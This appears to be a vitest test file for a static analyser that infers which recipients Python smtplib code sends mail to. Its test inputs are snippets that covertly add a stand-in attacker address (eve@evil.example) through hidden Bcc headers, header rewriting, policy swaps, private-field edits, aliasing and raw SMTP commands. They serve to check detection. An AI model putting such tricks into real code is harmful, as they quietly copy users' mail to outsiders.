import { describe, expect, it } from "vitest";
import { effectsOf } from "./effects-of.ts";

const mails = (text: string): readonly string[] =>
  effectsOf(text).filter((one) => one.startsWith("mail.send") || one.startsWith("unknown"));

const sends = (lines: string, made = "EmailMessage()"): readonly string[] =>
  mails(`
import smtplib, json, sys
from email.message import EmailMessage
from email.mime.text import MIMEText
from email import policy
m = ${made}
m["To"] = "ann@example.com"
${lines}
with smtplib.SMTP("mail.example.com") as server:
    server.send_message(m)
`);

describe("who gets a message that is sent", () => {
  it("stands in its headers", () => {
    expect(sends("")).toEqual(['mail.send "ann@example.com"']);
    expect(sends('m["Cc"] = ", ".join(["bob@example.com", "Carl C. <carl@example.com>"])')).toEqual([
      'mail.send "ann@example.com"',
      'mail.send "bob@example.com"',
      'mail.send "carl@example.com"',
    ]);
    expect(sends('m["Subject"] = sys.argv[1]\nm.set_content("hello", "html")')).toEqual([
      'mail.send "ann@example.com"',
    ]);
    expect(sends("", 'MIMEText("hello", "plain", "utf-8")')).toEqual(['mail.send "ann@example.com"']);
  });

  it("stands in the arguments, where these say it", () => {
    const text = `
import smtplib
server = smtplib.SMTP("mail.example.com")
server.sendmail("me@example.com", ["ann@example.com", "bob@example.com"], "hello")
`;
    expect(mails(text)).toEqual(['mail.send "ann@example.com"', 'mail.send "bob@example.com"']);
  });

  it.each([
    ["a header whose name is put together", 'm["".join(sys.argv)] = "eve@evil.example"'],
    ["a hidden copy", 'm["bCC"] = "eve@evil.example"'],
    ["a header that is replaced", 'm.replace_header("to", "eve@evil.example")'],
    ["a header with parameters", 'm.add_header("Cc", "eve@evil.example", x="y")'],
    ["a header as it is written", 'm.set_raw("Bcc", "eve@evil.example")'],
    ["a parameter of a header", 'm.set_param("x", "eve@evil.example", header="To")'],
    ["the type of a header", 'm.set_type("eve@evil.example/x", "To")'],
    ["headers of the content", 'm.set_content("x", headers=["Bcc: eve@evil.example"])'],
    [
      "headers of the content, by place",
      'm.set_content("x", "plain", "utf-8", None, None, None, None, None, ["Bcc: eve@evil.example"])',
    ],
    ["headers out of a dictionary", 'm.set_content("x", **{"headers": ["Bcc: eve@evil.example"]})'],
    ["another policy", "m.policy = json.loads(sys.argv[1])"],
    ["a member by its name", 'setattr(m, "policy", json.loads(sys.argv[1]))'],
    ["the members as a dictionary", 'm.__dict__["_headers"] = [("To", "eve@evil.example")]'],
    ["the private list", 'm._headers.append(("To", "eve@evil.example"))'],
    ["an alias that goes through a list", 'l = []\nl.append(m)\nfor one in l: one["Cc"] = sys.argv[1]'],
    [
      "an alias that comes back from a library",
      'import queue\nq = queue.Queue()\nq.put(m)\nq.get()["Cc"] = "eve@evil.example"',
    ],
    ["the method of the class", 'EmailMessage.__setitem__(m, "Cc", "eve@evil.example")'],
    ["a second beginning", "m.__init__(policy=json.loads(sys.argv[1]))"],
    ["an address that is not plain", 'm["Cc"] = "\\"a@example.com\\" <eve@evil.example>"'],
    ["an address that is encoded", 'm["Cc"] = "=?utf-8?q?eve=40evil.example?= <eve@evil.example>"'],
  ])("may be anybody behind %s", (_, lines) => {
    const found = sends(lines).join();
    expect(found).toMatch(/mail\.send any|mail\.send "eve@evil\.example"|unknown any/u);
  });

  it.each([
    ["what is read from a text", "email.message_from_string(sys.argv[1])"],
    ["a policy of the program", "EmailMessage(policy=P())"],
    ["a class of the program", "M()"],
  ])("may be anybody for %s", (_, made) => {
    const text = `
import email, smtplib, sys
from email.message import EmailMessage
from email.policy import EmailPolicy
class P(EmailPolicy):
    def header_fetch_parse(self, name, value): return "eve@evil.example"
class M(EmailMessage):
    def get_all(self, name, failobj=None): return ["eve@evil.example"]
m = ${made}
m["To"] = "ann@example.com"
smtplib.SMTP("mail.example.com").send_message(m)
`;
    expect(mails(text).join()).toMatch(/mail\.send any|unknown any/u);
  });

  it("may be anybody for a command that the program puts together", () => {
    const text = 'import smtplib\nsmtplib.SMTP("h").docmd("RCPT", "TO:<eve@evil.example>")';
    expect(mails(text)).toEqual(["mail.send any"]);
  });
});
